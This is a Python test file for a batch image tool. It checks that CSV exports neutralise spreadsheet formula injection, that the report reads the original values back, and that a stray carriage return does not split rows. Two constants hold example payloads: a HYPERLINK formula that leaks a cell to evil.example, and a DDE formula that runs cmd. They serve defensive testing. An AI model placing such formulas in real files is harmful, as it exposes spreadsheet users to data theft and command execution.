"""A manifest's metadata and text-route model names that a spreadsheet would run as formulas reach
results.csv and usage-summary.csv neutralised, and the report (which reads results.csv back) shows the
original values (issue 21 #5)."""

from __future__ import annotations

import csv
import html
from pathlib import Path
from typing import Any

from helpers.runs import cli, read_results, write_jsonl

from imagebatch.storage.csvcells import read_csv

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open me")'
CALC = "=cmd|' /C calc'!A0"


def raw_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="") as fh:
        return list(csv.DictReader(fh))


def test_formulas_are_neutralised_in_the_csv_files_and_read_back_by_the_report(
    service_env: Any, tmp_path: Path, out: Path, capsys: Any
) -> None:
    jobs = [
        {"id": "j0", "prompt": "a vase", "note": LINK, "qty": "-3", "@owner": "+44 20 7946 0000"},
        {"id": "t0", "route": "messages", "model": CALC, "prompt": "describe a vase", "note": "'quoted"},
    ]
    manifest = write_jsonl(tmp_path / "m.jsonl", jobs)
    code, _, err = cli(capsys, "run", str(manifest), "--out", str(out))
    assert code == 0, err

    raw = raw_rows(out / "results.csv")
    assert [(r["note"], r["qty"], r["'@owner"]) for r in raw] == [
        ("'" + LINK, "-3", "'+44 20 7946 0000"),
        ("''quoted", "", ""),
    ]
    assert raw[1]["model"] == "'" + CALC
    rows = read_results(out)  # the original values, as a program reads them back
    assert [(r["note"], r["qty"], r["@owner"], r["model"]) for r in rows][1] == ("'quoted", "", "", CALC)
    assert (rows[0]["note"], rows[0]["qty"], rows[0]["@owner"]) == (LINK, "-3", "+44 20 7946 0000")

    usage_raw = raw_rows(out / "usage-summary.csv")
    assert ("messages", "'" + CALC) in [(r["route"], r["model"]) for r in usage_raw]
    assert ("messages", CALC) in [(r["route"], r["model"]) for r in read_csv(out / "usage-summary.csv")]
    for name in ("results.csv", "usage-summary.csv"):
        with (out / name).open(newline="") as fh:
            cells = [cell for line in csv.reader(fh) for cell in line]
        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], name

    page = (out / "report.html").read_text()
    assert f'data-model="{html.escape(CALC, quote=True)}"' in page  # the model as named, not "'=cmd..."


def test_a_bare_cr_in_a_metadata_value_keeps_its_row_whole(
    service_env: Any, tmp_path: Path, capsys: Any
) -> None:
    """Issue 29 #2: `printf 'id,prompt,note\\ng1,p,"mid\\rdle"\\n'`; the CR went out unquoted, results.csv's
    row split in two, the report failed on `'status'` and the text after the CR escaped the formula guard."""
    manifest = tmp_path / "cr.csv"
    manifest.write_bytes(b'id,prompt,note,other\ng1,p,"mid\rdle","x\r=1+1"\ng2,q,"a,b ""c""\nd",plain\n')
    out = tmp_path / "out"
    code, _, err = cli(capsys, "run", str(manifest), "--out", str(out))
    assert code == 0, err
    assert "report.html not written" not in err

    with (out / "results.csv").open(newline="") as fh:
        raw = list(csv.DictReader(fh))  # another tool's reader: two rows, nothing split
    assert [(r["job_id"], r["note"], r["other"]) for r in raw] == [
        ("g1", "mid\rdle", "x\r=1+1"),
        ("g2", 'a,b "c"\nd', "plain"),
    ]
    assert all(r["status"] == "succeeded" for r in raw)
    assert (out / "report.html").is_file()
    assert cli(capsys, "report", str(out))[0] == 0
